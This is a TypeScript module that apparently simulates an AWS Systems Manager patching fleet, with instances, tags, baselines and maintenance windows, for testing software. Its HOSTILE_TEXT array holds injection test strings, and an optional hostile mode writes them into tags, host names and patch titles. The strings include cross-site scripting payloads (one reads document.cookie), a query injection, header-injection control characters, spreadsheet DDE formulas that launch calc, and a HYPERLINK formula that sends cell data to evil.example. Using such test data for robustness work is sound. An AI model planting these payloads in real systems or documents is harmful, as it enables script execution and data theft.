import {
  buildCatalogs,
  isNonCompliant,
  PLATFORM_INFO,
  PLATFORMS,
  type SimPatch,
  type SimPlatform,
  STATE,
} from './catalog.js';
import { Rng } from './random.js';

export type PingStatus = 'Online' | 'ConnectionLost' | 'Inactive';
export type InvocationOutcome = 'Success' | 'Failed' | 'TimedOut';

/** The last patch operation SSM knows of for an instance (what DescribeInstancePatchStates returns). */
export interface SimPatchOperation {
  baselineId: string;
  snapshotId?: string;
  operation: 'Scan' | 'Install';
  startAt: number;
  endAt: number;
  rebootOption: 'RebootIfNeeded' | 'NoReboot';
  lastNoRebootInstallAt?: number;
  ownerInformation?: string;
  executionId?: string;
}

export interface SimInstance {
  readonly instanceId: string;
  readonly resourceType: 'EC2Instance' | 'ManagedInstance';
  readonly platform: SimPlatform;
  readonly platformVersion: string;
  agentVersion: string;
  pingStatus: PingStatus;
  lastPingAt: number;
  readonly registeredAt: number;
  readonly computerName: string;
  readonly ipAddress: string;
  /** Hybrid activation name (`mi-…` only). */
  readonly activationName?: string;
  readonly iamRole: string;
  tags: Record<string, string>;
  /** One `STATE` code per patch of the platform catalog. */
  readonly states: Uint8Array;
  /** Install time per catalog index for installed patches (epoch ms). */
  readonly installedAt: Float64Array;
  patch: SimPatchOperation | undefined;
  /** Forces the outcome of every patch invocation on this instance. */
  forcedOutcome?: InvocationOutcome;
  /** Set when generated as not having reported for weeks. */
  readonly stale: boolean;
}

export interface SimBaseline {
  readonly baselineId: string;
  readonly name: string;
  readonly operatingSystem: string;
  readonly description: string;
  readonly defaultBaseline: boolean;
}

export interface SimTarget {
  readonly key: string;
  readonly values: readonly string[];
}

export interface SimWindowTask {
  readonly windowTaskId: string;
  readonly name: string;
  readonly taskArn: string;
  readonly taskType: 'RUN_COMMAND' | 'AUTOMATION' | 'LAMBDA' | 'STEP_FUNCTIONS';
  /** Lower runs first. */
  readonly priority: number;
  /** Window target ids the task runs on (RUN_COMMAND / AUTOMATION). */
  readonly windowTargetIds: readonly string[];
  readonly parameters: Readonly<Record<string, readonly string[]>>;
  readonly notification?: { readonly topicArn: string; readonly events: readonly string[]; readonly type: 'Command' | 'Invocation' };
  readonly serviceRoleArn?: string;
  readonly maxConcurrency?: string;
  readonly maxErrors?: string;
  readonly payload?: string;
}

export interface SimWindow {
  readonly windowId: string;
  name: string;
  description?: string | undefined;
  schedule: string;
  scheduleTimezone?: string | undefined;
  scheduleOffset?: number | undefined;
  duration: number;
  cutoff: number;
  allowUnassociatedTargets: boolean;
  enabled: boolean;
  startDate?: string | undefined;
  endDate?: string | undefined;
  readonly createdAt: number;
  modifiedAt: number;
  readonly targets: { readonly windowTargetId: string; readonly targets: readonly SimTarget[]; readonly ownerInformation?: string }[];
  readonly tasks: SimWindowTask[];
}

export interface Fleet {
  readonly accountId: string;
  readonly region: string;
  readonly seed: number | string;
  readonly createdAt: number;
  readonly failureRate: number;
  readonly instances: SimInstance[];
  readonly byId: Map<string, SimInstance>;
  readonly patchGroups: readonly string[];
  readonly baselines: SimBaseline[];
  /** Patch group → (operating system → baseline id). */
  readonly groupBaselines: Map<string, Map<string, string>>;
  readonly catalogs: Readonly<Record<SimPlatform, readonly SimPatch[]>>;
  readonly windows: SimWindow[];
  /** Whether names, tags, patch titles and command output carry hostile text (`CreateFleetOptions.hostile`). */
  readonly hostile: boolean;
}

export interface CreateFleetOptions {
  readonly size: number;
  /** A count of generated groups, or their names. Default 4. */
  readonly patchGroups?: number | readonly string[];
  /** Share of patch invocations on online instances that fail or time out; default 0.05. */
  readonly failureRate?: number;
  readonly seed?: number | string;
  readonly accountId?: string;
  readonly region?: string;
  /** Share of instances with no `Patch Group` tag; default 0.05. */
  readonly unmanagedRate?: number;
  /** Share that has not reported for weeks; default 0.03. */
  readonly staleRate?: number;
  /** Share of instances recently offline (ConnectionLost for hours); default 0.02. */
  readonly offlineRate?: number;
  /** Share of hybrid (`mi-…`) nodes; default 0.1. */
  readonly hybridRate?: number;
  /** Share of fully patched instances; default 0.6. */
  readonly compliantRate?: number;
  /** Generation time (epoch ms or Date); default 2026-01-01. */
  readonly now?: number | Date;
  /** Relative platform weights; default a typical mixed estate. */
  readonly platformWeights?: Partial<Record<SimPlatform, number>>;
  /** One maintenance window per patch group (disabled, gated by change); default true. */
  readonly windows?: boolean;
  /**
   * Hostile data, as real estates have it: every other instance's `Name`,
   * `Application` and `Owner` tags (EC2 allows any character in a tag) and
   * Linux host name, every patch title and every failed command's output carry
   * ServiceNow query characters, HTML and script, C0/C1 control characters,
   * spreadsheet formulas and, where AWS allows it, 10 KB strings (1 patch title
   * in 7, and the command's error output; tag values stay within AWS's 256
   * characters, host names within Linux's 64). Default false.
   */
  readonly hostile?: boolean;
}

/** Hostile text the `hostile` knob puts into AWS data (each within the field's AWS limit where it has one). */
export const HOSTILE_TEXT = [
  '<script>alert("pb")</script>',
  "x' OR 1=1 --^ORDERBYsys_id^NQactive=true^ORnumberSTARTSWITHINC,i-0000000000000000f",
  'bell\u0007nul\u0000esc\u001b[31mred\r\nInjected-Header: yes\u0085nel\u009bcsi\u2028ls',
  '=HYPERLINK("http://evil.example/?q="&A1)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template placeholder in AWS text is part of the hostile data.
  '<img src=x onerror=alert(1)>&amp;"\'`${x}|pipe',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '[code]<img src=x onerror=alert(document.cookie)>[/code]',
] as const;

/** 10 KB of text with the hostile strings spread through it. */
export const HOSTILE_LONG = `${HOSTILE_TEXT.join(' ')} ${'A'.repeat(10_240)} ${HOSTILE_TEXT.join(' ')}`;

const GROUP_NAMES = [
  'web-prod',
  'db-prod',
  'app-prod',
  'app-staging',
  'windows-prod',
  'batch-linux',
  'dev-general',
  'hybrid-onprem',
];
const ENVIRONMENTS = [
  ['prod', 5],
  ['staging', 2],
  ['dev', 2],
  ['test', 1],
] as const;
const APPLICATIONS = ['billing', 'crm', 'web-portal', 'data-lake', 'auth', 'payments', 'search', 'reporting'];
const OWNERS = ['platform-team@example.com', 'dba-team@example.com', 'web-team@example.com', 'finance-it@example.com'];
const DEFAULT_WEIGHTS: Record<SimPlatform, number> = {
  Windows: 3,
  AmazonLinux2: 3,
  AmazonLinux2023: 3,
  RedHatEnterpriseLinux: 2,
  Ubuntu: 2,
  SUSE: 1,
};
const LATEST_AGENT = '3.3.1142.0';
const DAY = 86_400_000;

export const GUARD_FUNCTION = 'patchbridge-guard';

function groupNames(spec: number | readonly string[] | undefined): string[] {
  if (Array.isArray(spec)) return [...spec];
  const n = typeof spec === 'number' ? spec : 4;
  return Array.from({ length: n }, (_, i) => GROUP_NAMES[i] ?? `patch-group-${i + 1}`);
}

/**
 * Generates a fleet from a seed: the same options give the same instances, tags,
 * patches, baselines and windows, byte for byte.
 */
export function createFleet(options: CreateFleetOptions): Fleet {
  const seed = options.seed ?? 1;
  const rng = Rng.derive(seed, 'fleet');
  const accountId = options.accountId ?? '123456789012';
  const region = options.region ?? 'us-east-1';
  const now = new Date(options.now ?? '2026-01-01T00:00:00Z').getTime();
  const built = buildCatalogs(seed);
  const catalogs = options.hostile
    ? (Object.fromEntries(
        Object.entries(built).map(([platform, patches]) => [platform, patches.map((p, n) => ({ ...p, title: `${p.title} ${HOSTILE_TEXT[n % HOSTILE_TEXT.length]}${n % 7 === 0 ? ` ${HOSTILE_LONG}` : ''}` }))]),
      ) as typeof built)
    : built;
  const groups = groupNames(options.patchGroups);
  const weights = { ...DEFAULT_WEIGHTS, ...(options.platformWeights ?? {}) };
  const platformTable = PLATFORMS.map((p) => [p, weights[p]] as const).filter(([, w]) => w > 0);
  const unmanagedRate = options.unmanagedRate ?? 0.05;
  const staleRate = options.staleRate ?? 0.03;
  const hybridRate = options.hybridRate ?? 0.1;
  const compliantRate = options.compliantRate ?? 0.6;
  const offlineRate = options.offlineRate ?? 0.02;

  const baselines: SimBaseline[] = [];
  const groupBaselines = new Map<string, Map<string, string>>();
  for (const p of PLATFORMS) {
    const info = PLATFORM_INFO[p];
    if (baselines.some((b) => b.baselineId === info.defaultBaselineId)) continue;
    baselines.push({
      baselineId: info.defaultBaselineId,
      name: info.defaultBaselineName,
      operatingSystem: info.operatingSystem,
      description: `Default patch baseline for ${info.operatingSystem}`,
      defaultBaseline: true,
    });
  }
  const baselineFor = (group: string, platform: SimPlatform): string => {
    const os = PLATFORM_INFO[platform].operatingSystem;
    let byOs = groupBaselines.get(group);
    if (!byOs) {
      byOs = new Map();
      groupBaselines.set(group, byOs);
    }
    let id = byOs.get(os);
    if (!id) {
      id = `pb-${Rng.derive(seed, 'baseline', group, os).hex(17)}`;
      byOs.set(os, id);
      baselines.push({
        baselineId: id,
        name: `${group}-${os.toLowerCase().replace(/_/g, '-')}`,
        operatingSystem: os,
        description: `Patch baseline for patch group ${group} (${os})`,
        defaultBaseline: false,
      });
    }
    return id;
  };

  const instances: SimInstance[] = [];
  const byId = new Map<string, SimInstance>();
  for (let i = 0; i < options.size; i++) {
    const platform = rng.weighted(platformTable);
    const info = PLATFORM_INFO[platform];
    const hybrid = rng.chance(hybridRate);
    let instanceId = hybrid ? `mi-${rng.hex(17)}` : `i-${rng.hex(17)}`;
    while (byId.has(instanceId)) instanceId = hybrid ? `mi-${rng.hex(17)}` : `i-${rng.hex(17)}`;
    const environment = rng.weighted(ENVIRONMENTS);
    const application = rng.pick(APPLICATIONS);
    const unmanaged = rng.chance(unmanagedRate);
    const group = unmanaged || groups.length === 0 ? undefined : rng.pick(groups);
    const stale = rng.chance(staleRate);
    const ip = `10.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
    const name = `${application}-${environment}-${String(i + 1).padStart(4, '0')}`;
    const hostile = options.hostile === true && i % 2 === 0 ? HOSTILE_TEXT[(i / 2) % HOSTILE_TEXT.length] : undefined;
    const tags: Record<string, string> = {
      // AWS tag values are at most 256 characters.
      Name: hostile ? `${name} ${hostile}`.slice(0, 256) : name,
      Environment: environment,
      Application: hostile ? `${application}${hostile}`.slice(0, 256) : application,
      Owner: hostile ? `${hostile}${'o'.repeat(256)}`.slice(0, 256) : rng.pick(OWNERS),
    };
    if (group) tags['Patch Group'] = group;

    let pingStatus: PingStatus = 'Online';
    let lastPingAt = now - rng.int(10_000, 600_000);
    if (stale) {
      pingStatus = hybrid && rng.chance(0.5) ? 'Inactive' : 'ConnectionLost';
      lastPingAt = now - rng.int(14, 60) * DAY;
    } else if (rng.chance(offlineRate)) {
      pingStatus = 'ConnectionLost';
      lastPingAt = now - rng.int(1, 36) * 3_600_000;
    }

    const catalog = catalogs[platform];
    const states = new Uint8Array(catalog.length);
    const installedAt = new Float64Array(catalog.length);
    const compliant = rng.chance(compliantRate);
    for (let k = 0; k < catalog.length; k++) {
      const x = rng.next();
      let code: number;
      if (x < 0.3) code = STATE.NotApplicable;
      else if (x < 0.33) code = STATE.InstalledOther;
      else if (compliant || x < 0.75) code = STATE.Installed;
      else if (x < 0.95) code = STATE.Missing;
      else if (x < 0.98) code = STATE.Failed;
      else code = STATE.InstalledPendingReboot;
      states[k] = code;
      if (code === STATE.Installed || code === STATE.InstalledOther || code === STATE.InstalledPendingReboot) {
        installedAt[k] = now - rng.int(2, 300) * DAY;
      }
    }

    const lastOpEnd = stale ? lastPingAt - rng.int(0, 3) * DAY : now - rng.int(1, 7) * DAY;
    // Half the unmanaged instances were never scanned: they have no patch state at all.
    const neverScanned = unmanaged && rng.chance(0.5);
    const patch: SimPatchOperation | undefined = neverScanned
      ? undefined
      : {
          baselineId: group ? baselineFor(group, platform) : info.defaultBaselineId,
          operation: rng.chance(0.7) ? 'Scan' : 'Install',
          startAt: lastOpEnd - rng.int(60, 900) * 1000,
          endAt: lastOpEnd,
          rebootOption: 'RebootIfNeeded',
        };
    const instance: SimInstance = {
      instanceId,
      resourceType: hybrid ? 'ManagedInstance' : 'EC2Instance',
      platform,
      platformVersion: rng.pick(info.platformVersions),
      agentVersion: rng.chance(0.8) ? LATEST_AGENT : `3.2.${rng.int(500, 2300)}.0`,
      pingStatus,
      lastPingAt,
      registeredAt: now - rng.int(30, 900) * DAY,
      computerName:
        info.platformType === 'Windows'
          ? `EC2AMAZ-${rng.upperAlnum(7)}`
          : hostile
            ? // Linux takes any bytes as a host name, up to 64.
              hostile.slice(0, 64)
            : `ip-${ip.replace(/\./g, '-')}.${region === 'us-east-1' ? 'ec2.internal' : `${region}.compute.internal`}`,
      ipAddress: ip,
      ...(hybrid ? { activationName: `onprem-${application}-${String(i + 1).padStart(4, '0')}` } : {}),
      iamRole: hybrid ? 'service-role/AmazonEC2RunCommandRoleForManagedInstances' : 'AmazonSSMRoleForInstancesQuickSetup',
      tags,
      states,
      installedAt,
      patch,
      stale,
    };
    instances.push(instance);
    byId.set(instanceId, instance);
  }
  for (const g of groups) if (!groupBaselines.has(g)) baselineFor(g, 'AmazonLinux2023');

  const windows: SimWindow[] = [];
  if (options.windows ?? true) {
    for (const [i, group] of groups.entries()) {
      const wrng = Rng.derive(seed, 'window', group);
      const windowTargetId = wrng.uuid();
      windows.push({
        windowId: `mw-${wrng.hex(17)}`,
        name: `patch-${group}`,
        description: `Patching for patch group ${group}; enabled only under an approved change`,
        schedule: `cron(0 ${2 + (i % 4)} ? * SUN *)`,
        scheduleTimezone: 'UTC',
        duration: 4,
        cutoff: 1,
        allowUnassociatedTargets: false,
        enabled: false,
        createdAt: now - 90 * DAY,
        modifiedAt: now - 90 * DAY,
        targets: [{ windowTargetId, targets: [{ key: 'tag:Patch Group', values: [group] }], ownerInformation: group }],
        tasks: [
          {
            windowTaskId: wrng.uuid(),
            name: 'change-guard',
            taskArn: `arn:aws:lambda:${region}:${accountId}:function:${GUARD_FUNCTION}`,
            taskType: 'LAMBDA',
            priority: 1,
            windowTargetIds: [],
            parameters: {},
          },
          {
            windowTaskId: wrng.uuid(),
            name: 'patch-install',
            taskArn: 'AWS-RunPatchBaseline',
            taskType: 'RUN_COMMAND',
            priority: 2,
            windowTargetIds: [windowTargetId],
            parameters: { Operation: ['Install'], RebootOption: ['RebootIfNeeded'] },
            maxConcurrency: '10%',
            maxErrors: '10%',
          },
        ],
      });
    }
  }

  return {
    accountId,
    region,
    seed,
    createdAt: now,
    failureRate: options.failureRate ?? 0.05,
    instances,
    byId,
    patchGroups: groups,
    baselines,
    groupBaselines,
    catalogs,
    windows,
    hostile: options.hostile === true,
  };
}

export function patchGroupOf(instance: SimInstance): string | undefined {
  return instance.tags['Patch Group'];
}

/** The baseline an instance is scanned against: its group's for its OS, else the AWS default. */
export function baselineOf(fleet: Fleet, instance: SimInstance): string {
  const group = patchGroupOf(instance);
  const os = PLATFORM_INFO[instance.platform].operatingSystem;
  return (group ? fleet.groupBaselines.get(group)?.get(os) : undefined) ?? PLATFORM_INFO[instance.platform].defaultBaselineId;
}

export interface PatchCounts {
  installed: number;
  installedOther: number;
  installedPendingReboot: number;
  installedRejected: number;
  missing: number;
  failed: number;
  notApplicable: number;
  criticalNonCompliant: number;
  securityNonCompliant: number;
  otherNonCompliant: number;
}

export function patchCounts(fleet: Fleet, instance: SimInstance): PatchCounts {
  const catalog = fleet.catalogs[instance.platform];
  const c: PatchCounts = {
    installed: 0,
    installedOther: 0,
    installedPendingReboot: 0,
    installedRejected: 0,
    missing: 0,
    failed: 0,
    notApplicable: 0,
    criticalNonCompliant: 0,
    securityNonCompliant: 0,
    otherNonCompliant: 0,
  };
  for (let k = 0; k < instance.states.length; k++) {
    const code = instance.states[k] ?? 0;
    if (code === STATE.NotApplicable) c.notApplicable++;
    else if (code === STATE.Installed) c.installed++;
    else if (code === STATE.InstalledOther) c.installedOther++;
    else if (code === STATE.InstalledPendingReboot) c.installedPendingReboot++;
    else if (code === STATE.InstalledRejected) c.installedRejected++;
    else if (code === STATE.Missing) c.missing++;
    else if (code === STATE.Failed) c.failed++;
    if (isNonCompliant(code)) {
      const patch = catalog[k];
      if (patch?.severity === 'CRITICAL') c.criticalNonCompliant++;
      else if (patch?.security) c.securityNonCompliant++;
      else c.otherNonCompliant++;
    }
  }
  return c;
}

/** Resolves SSM targets (`InstanceIds`, `tag:Key`, `tag-key`) to fleet instances, in fleet order. */
export function resolveTargets(fleet: Fleet, targets: readonly SimTarget[]): SimInstance[] {
  if (targets.length === 0) return [];
  return fleet.instances.filter((inst) =>
    targets.every((t) => {
      if (t.key === 'InstanceIds') return t.values.includes(inst.instanceId);
      if (t.key.startsWith('tag:')) {
        const v = inst.tags[t.key.slice(4)];
        return v !== undefined && t.values.includes(v);
      }
      if (t.key === 'tag-key') return t.values.some((k) => inst.tags[k] !== undefined);
      return false;
    }),
  );
}
